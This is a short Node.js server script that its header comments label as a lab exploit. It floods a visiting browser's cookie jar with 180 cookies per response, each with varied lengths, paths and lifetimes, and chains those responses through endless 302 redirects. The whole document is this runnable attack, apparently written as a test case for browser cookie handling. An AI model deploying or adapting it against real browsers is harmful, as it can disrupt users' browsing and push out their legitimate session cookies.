// exploit: fills the browser's jar with as many and as long cookies as it takes, for every path and domain, in every answer of a long chain
// part: no
// kind: lab
// steps: visit /0 | visit /1 | visit /2 | visit /3 | wait 60 | visit /4
// outcome: finished
// sees: "status":302
let count = 0
require('node:http').createServer((req, res) => {
  const cookies = Array.from({ length: 180 }, (_, index) => {
    count += 1
    return `c${count}=${'v'.repeat(index % 40)}; Path=${['/', req.url, `/${'a/'.repeat(index % 9)}`][index % 3]}; Max-Age=${1 + index}`
  })
  res.setHeader('Set-Cookie', cookies)
  if (count % 3600 === 0) res.end('there')
  else res.writeHead(302, { Location: `/${count}` }).end()
}).listen(process.env.PORT)
